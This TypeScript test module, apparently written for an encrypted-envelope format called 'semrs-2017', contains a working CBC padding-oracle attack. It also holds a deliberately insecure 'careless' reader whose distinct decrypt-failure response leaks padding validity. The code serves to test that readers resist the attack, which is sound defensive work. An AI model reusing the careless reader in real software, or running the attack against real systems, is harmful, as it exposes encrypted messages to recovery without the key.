/** The attack that semrs-2017 invites, for a test to try on a reader, and the reader that one writes first, which falls. */
import { constants, createDecipheriv, privateDecrypt } from "node:crypto";
import type { RawHeaders } from "../../envelope/index.ts";
import { readParts } from "../../envelope/mime.ts";
import { collect, inPieces } from "./samples.ts";

export const blockBytes = 16;
/** Which block of the CDA the attacker wants, and how many of its last octets: enough to see that all would follow. */
const wantedBlock = 3;
export const wantedOctets = 3;
/** What a successful attack gives. */
export const wantedOf = (cda: Uint8Array, octets = wantedOctets): string =>
  Buffer.from(cda).toString("latin1", (wantedBlock + 1) * blockBytes - octets, (wantedBlock + 1) * blockBytes);

export type Envelope = { readonly headers: RawHeaders; readonly body: Buffer };
/** All that a reader tells a stranger. */
export type Reader = (envelope: Envelope) => Promise<string>;

const allGuesses = Array.from({ length: 256 }, (_, guess) => guess);

/** The attacker knows what went over the wire, and nothing else: no key, no clear text. */
export async function attack({ headers, body }: Envelope, ask: Reader, octets = wantedOctets, guesses = allGuesses) {
  const [document = Buffer.alloc(0), ...rest] = await partsOf({ headers, body });
  const image = rest[3] ?? Buffer.alloc(0);
  const at = blockBytes * (1 + wantedBlock);
  const [before, target] = [document.subarray(at - blockBytes, at), document.subarray(at, at + blockBytes)];
  /** The target block where the image was, with a block of one's own choice in front of it. */
  const asked = async (chosen: Uint8Array): Promise<string> => {
    const start = body.lastIndexOf(image);
    const spliced = [body.subarray(0, start), chosen, target, body.subarray(start + image.length)];
    return await ask({ headers, body: Buffer.concat(spliced) });
  };
  const answers = new Map<string, number>();
  /** What the block cipher makes of the target, octet by octet from the end. */
  const inner = Buffer.alloc(blockBytes);
  for (let found = 0; found < octets; found += 1) {
    const place = blockBytes - 1 - found;
    const padding = found + 1;
    // A guess is right when it makes the padding right whatever stands before it: octets of the CDA may do so by chance.
    const answerTo = async (guess: number, before: number): Promise<string> => {
      const chosen = Buffer.alloc(blockBytes, before);
      for (let known = place + 1; known < blockBytes; known += 1) chosen[known] = (inner[known] ?? 0) ^ padding;
      chosen[place] = guess ^ padding;
      const answer = await asked(chosen);
      answers.set(answer, (answers.get(answer) ?? 0) + 1);
      return answer;
    };
    const first: string[] = [];
    for (const guess of guesses) first.push(await answerTo(guess, 0xa5));
    const [usual] = [...answers].sort(([, one], [, other]) => other - one)[0] ?? [];
    const told: number[] = [];
    for (const [index, answer] of first.entries()) {
      const guess = guesses[index] ?? 0;
      if (answer !== usual && (await answerTo(guess, 0x5a)) !== usual) told.push(guess);
    }
    if (told.length !== 1) return { answers, recovered: undefined };
    inner[place] = told[0] ?? 0;
  }
  const recovered = Buffer.from(inner.map((octet, index) => octet ^ (before[index] ?? 0)));
  return { answers, recovered: recovered.subarray(blockBytes - octets) };
}

export async function partsOf({ headers, body }: Envelope): Promise<readonly Buffer[]> {
  const [, boundary = ""] = /boundary="(.*)"/.exec(headers.at(-1)?.[1] ?? "") ?? [];
  return await Array.fromAsync(readParts(inPieces(body), boundary, 10, "semrs-2017"), collect);
}

/** What one writes first: decrypt what comes, and report what went wrong. */
export const careless =
  (decryptKey: string): Reader =>
  async (envelope) => {
    const [document, , , encKey, image] = (await partsOf(envelope)).map((part) => Buffer.from(part));
    const padding = constants.RSA_PKCS1_PADDING;
    try {
      const key = privateDecrypt({ key: decryptKey, padding }, encKey ?? Buffer.alloc(0));
      for (const part of [document, image]) {
        const sealed = part ?? Buffer.alloc(0);
        const decipher = createDecipheriv("aes-256-cbc", key, sealed.subarray(0, blockBytes));
        decipher.update(sealed.subarray(blockBytes));
        decipher.final();
      }
      return "200 stored";
    } catch {
      return "500 could not decrypt";
    }
  };
